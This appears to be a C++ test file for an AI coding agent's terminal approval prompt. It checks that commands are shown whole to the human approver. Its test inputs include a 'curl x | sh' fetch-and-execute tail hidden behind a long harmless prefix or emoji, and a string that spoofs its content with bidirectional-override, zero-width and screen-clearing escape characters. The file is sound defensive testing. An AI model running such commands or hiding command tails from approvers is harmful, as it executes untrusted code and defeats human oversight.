// The approval prompt: the one-line command, the whole command when that line cannot show all
// of it, and the key hint.

#include <gtest/gtest.h>

#include <string>

#include "item_rows.h"
#include "scrollback_fixture.h"
#include "unicode/concat.h"

namespace zell::tui::widgets::testing {
namespace {

struct ApprovalCase {
  const char* name;
  int terminal_width;
  std::string tool;
  std::string tool_shown;
  std::string command;
  std::string one_line;           // what the approval line shows after "? "
  std::vector<std::string> full;  // rows of the whole command, without their indentation
  std::vector<std::string> full_styles = {};  // their styles, when not all "dim"
};
void PrintTo(const ApprovalCase& c, std::ostream* os) {
  *os << c.name;
}

class ApprovalPrompt : public ::testing::TestWithParam<ApprovalCase> {};

TEST_P(ApprovalPrompt, draws_its_rows) {
  const ApprovalCase& c = GetParam();
  Transcript t({c.terminal_width, 30});
  t.log().append_approval(c.tool, c.command);
  std::vector<Row> rows{
      {},
      {{unicode::concat({"  Allow ", c.tool_shown, "? "}), "bold yellow"}, {c.one_line, "dim"}}};
  for (std::size_t i = 0; i < c.full.size(); ++i) {
    const std::string& r = c.full[i];
    rows.push_back({{r.empty() ? r : unicode::concat({"    ", r}),
                     c.full_styles.empty() ? "dim" : c.full_styles[i]}});
  }
  rows.push_back({{"  Press ", "dim"},
                  {"1", "bold white"},
                  {" to allow, ", "dim"},
                  {"2", "bold white"},
                  {" to deny", "dim"}});
  expect_rows(t.log().lines(), 0, rows);
  EXPECT_EQ(t.log().line_count(), static_cast<int>(rows.size()));
}

const std::string X200(200, 'x');
const std::string PREFIX =
    unicode::concat({"echo ", std::string(115, 'a')});  // 120 harmless characters
const std::string COMMAND = unicode::concat({PREFIX, " && curl x | sh"});

// 19 skin-toned thumbs: 76 cells where each code point is drawn (38 when clustered).
std::string thumbs() {
  std::string s;
  for (int i = 0; i < 19; ++i) s += "👍🏽";
  return s;
}
const std::string THUMBS = unicode::concat({thumbs(), " && curl x | sh"});

INSTANTIATE_TEST_SUITE_P(
    Cases, ApprovalPrompt,
    ::testing::Values(
        ApprovalCase{"plain", 100, "bash", "bash", "rm -rf build", "rm -rf build", {}},
        ApprovalCase{"line_breaks_then_whole",
                     100,
                     "bash",
                     "bash",
                     "cd src\nmake\n",
                     "cd src …",
                     {"cd src", "make", ""}},
        // A diff to approve: its first line names it, and it is shown whole once, below.
        ApprovalCase{"diff_first_line_then_whole",
                     100,
                     "edit",
                     "edit",
                     "--- notes.txt\n+++ notes.txt\n@@ -1 +1 @@\n-old\n+new\n same",
                     "--- notes.txt …",
                     {"--- notes.txt", "+++ notes.txt", "@@ -1 +1 @@", "-old", "+new", " same"},
                     {"dim", "dim", "cyan", "red", "#32cd32", "dim"}},
        // A long added line folds at the width, green on every row; a command that merely
        // starts with a dash is no diff.
        ApprovalCase{"diff_line_folded_in_its_colour",
                     40,
                     "edit",
                     "edit",
                     "@@ -1 +1 @@\n-a\n+" + std::string(40, 'b'),
                     "@@ -1 +1 @@ …",
                     {"@@ -1 +1 @@", "-a", "+" + std::string(30, 'b'), std::string(10, 'b')},
                     {"cyan", "red", "#32cd32", "#32cd32"}},
        ApprovalCase{
            "dashes_are_no_diff", 100, "bash", "bash", "ls\n-la\n+x", "ls …", {"ls", "-la", "+x"}},
        ApprovalCase{"blank_first_lines_skipped",
                     100,
                     "bash",
                     "bash",
                     "\n  \necho hi\n",
                     "echo hi",
                     {"", "  ", "echo hi", ""}},
        // Width 40: the limit is 40 characters, then the log's cut at 35 cells; the whole
        // command follows in rows of 31 cells.
        ApprovalCase{
            "narrow_cut_then_whole",
            40,
            "bash",
            "bash",
            X200,
            unicode::concat({std::string(20, 'x'), "…"}),
            {std::string(31, 'x'), std::string(31, 'x'), std::string(31, 'x'), std::string(31, 'x'),
             std::string(31, 'x'), std::string(31, 'x'), std::string(14, 'x')}},
        // The end of a long command is never hidden: it follows whole below the cut line.
        ApprovalCase{"long_prefix_hides_nothing",
                     100,
                     "bash",
                     "bash",
                     COMMAND,
                     unicode::concat({PREFIX.substr(0, 80), "…"}),
                     {COMMAND.substr(0, 91), COMMAND.substr(91)}},
        // Measured per code point, the line overflows: cut, and the tail follows whole.
        ApprovalCase{"emoji_measured_as_drawn",
                     100,
                     "bash",
                     "bash",
                     THUMBS,
                     unicode::concat({thumbs(), " && …"}),
                     {THUMBS}},
        // Terminals disagree on its width: shown whole even though it fits.
        ApprovalCase{
            "disputed_width_shown_whole", 100, "bash", "bash", "echo कि", "echo कि", {"echo कि"}},
        ApprovalCase{"disguised_characters_shown",
                     100,
                     "ba\u202Esh",
                     "ba<U+202E>sh",
                     "echo safe\u202E\u2066 txt.exe\u200B;\x1b[2J\uFEFF",
                     "echo safe<U+202E><U+2066> txt.exe<U+200B>;␛[2J<U+FEFF>",
                     {}}),
    [](const auto& info) { return std::string(info.param.name); });

// An agent's question about a change: the diff whole, then the agent's own answers by number.
TEST(ApprovalPrompt, a_change_with_the_agents_answers) {
  Transcript t({100, 30});
  t.log().append_approval("Edit a.txt", "--- a.txt\n+++ a.txt\n@@ -1 +1 @@\n-old\n+new",
                          {"Allow", "Reject", "Always allow"});
  const std::vector<Row> rows{
      {},
      {{"  Allow Edit a.txt? ", "bold yellow"}, {"--- a.txt …", "dim"}},
      {{"    --- a.txt", "dim"}},
      {{"    +++ a.txt", "dim"}},
      {{"    @@ -1 +1 @@", "cyan"}},
      {{"    -old", "red"}},
      {{"    +new", "#32cd32"}},
      {{"  Press ", "dim"}, {"1", "bold white"}, {" to ", "dim"}, {"Allow", "dim"}},
      {{"  Press ", "dim"}, {"2", "bold white"}, {" to ", "dim"}, {"Reject", "dim"}},
      {{"  Press ", "dim"}, {"3", "bold white"}, {" to ", "dim"}, {"Always allow", "dim"}},
  };
  expect_rows(t.log().lines(), 0, rows);
}

}  // namespace
}  // namespace zell::tui::widgets::testing
